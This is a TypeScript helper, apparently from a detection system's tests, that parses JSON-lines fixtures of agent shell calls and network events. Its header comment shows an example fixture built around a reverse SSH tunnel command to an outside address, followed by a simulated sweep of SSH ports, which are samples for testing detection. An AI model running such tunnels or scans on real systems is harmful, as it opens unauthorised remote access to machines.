// Fixtures of detections: one JSON object a line, short enough to read.
//
//   {"call": {"time": "2026-03-02T08:00:00Z", "box": "box-1", "command": "ssh -fNR 2222:localhost:22 u@203.0.113.7"}}
//   {"event": {"time": "…", "box": "box-1", "dst": "10.0.0.{i}:22", "outcome": "refused"}, "repeat": 20, "everyS": 1}
//   {"expect": {"count": 1, "severity": "high", "destination": "203.0.113.7:22", "title": "…"}}
//
// `src` and `dst` are `ip:port`, a name, or an address alone; `seconds` is how long it lasted; `cause` the index of
// the call it is attributed to; `{i}` counts from 1 within a repeated line. All else is the schema's own field.

import { canonicalIp } from '../src/base/ip.ts'
import { parseIso } from '../src/base/time.ts'
import type { Seen } from '../src/detections/api.ts'
import type { Endpoint, Event } from '../src/schema/event.ts'
import type { ToolCall } from '../src/schema/tool-call.ts'

interface Expectation {
  readonly count?: number
  readonly severity?: string
  readonly destination?: string
  readonly kind?: string
  /** Part of the title. */
  readonly title?: string
}

export interface SeenLines {
  readonly items: Seen[]
  readonly expect: Expectation
}

/** Reads a fixture. Throws on what it does not understand: fixtures are ours. */
export function readSeenLines(text: string): SeenLines {
  const items: Seen[] = []
  let expect: Expectation = {}
  const counts = { event: 0, call: 0 }
  for (const [n, line] of text.split('\n').entries()) {
    if (line.trim() === '') continue
    const { event, call, expect: expected, repeat = 1, everyS = 1, ...rest } = JSON.parse(line)
    if (Object.keys(rest).length > 0)
      throw new Error(`line ${n + 1}: what is ${Object.keys(rest).join(', ')}?`)
    if (expected) {
      expect = expected
      continue
    }
    for (let i = 1; i <= repeat; i++) {
      const filled = JSON.parse(JSON.stringify(event ?? call).replaceAll('{i}', String(i)))
      const time = parseIso(filled.time)
      if (!time) throw new Error(`line ${n + 1}: time ${filled.time}`)
      const us = time.us + (i - 1) * everyS * 1e6
      if (event) items.push(seenEvent(filled, us, counts.event++, n + 1))
      else if (call) items.push(seenCall(filled, us, counts.call++, n + 1))
      else throw new Error(`line ${n + 1}: neither call, event nor expect`)
    }
  }
  items.sort((a, b) => a.us - b.us)
  return { items, expect }
}

// biome-ignore lint/suspicious/noExplicitAny: fixtures are ours, and checked by what is expected of them
function seenEvent(raw: any, us: number, index: number, line: number): Seen {
  const { time, src = '10.20.0.2:40000', dst = '', seconds, cause, box, dstName, ...rest } = raw
  const event: Event = {
    class: 'network_activity',
    ...rest,
    time: { us, spanUs: 1, kind: 'event', zone: 'utc', source: time },
    srcEndpoint: endpoint(src),
    dstEndpoint: endpoint(dst),
    line,
  }
  return {
    type: 'event',
    index,
    event,
    us,
    ...(seconds === undefined ? {} : { endUs: us + seconds * 1e6 }),
    ...(box === undefined ? {} : { box }),
    ...(cause === undefined ? {} : { cause: { call: cause, p: 0.95 } }),
    ...(dstName === undefined ? {} : { dstName }),
  }
}

// biome-ignore lint/suspicious/noExplicitAny: fixtures are ours, and checked by what is expected of them
function seenCall(raw: any, us: number, index: number, line: number): Seen {
  const { time, seconds = 1, box, name = 'bash', command, ...rest } = raw
  const call: ToolCall = {
    ...rest,
    name,
    command: typeof command === 'string' ? command : JSON.stringify(command),
    start: { us, spanUs: 1, kind: 'event', zone: 'utc', source: time },
    uncertaintyMs: 0,
    timeSource: 'executor',
    boxHints: box === undefined ? [] : [box],
    line,
  }
  return { type: 'call', index, call, us, endUs: us + seconds * 1e6, ...(box === undefined ? {} : { box }) }
}

function endpoint(text: string): Endpoint {
  const match = /^(\[[^\]]+\]|[^:]*)(?::(\d+))?$/.exec(text)
  if (!match) return { ip: text }
  const host = match[1]!.replace(/^\[|\]$/g, '')
  const ip = canonicalIp(host)
  return {
    ip: ip ?? '',
    ...(ip === undefined && host !== '' ? { hostname: host } : {}),
    ...(match[2] === undefined ? {} : { port: Number(match[2]) }),
  }
}
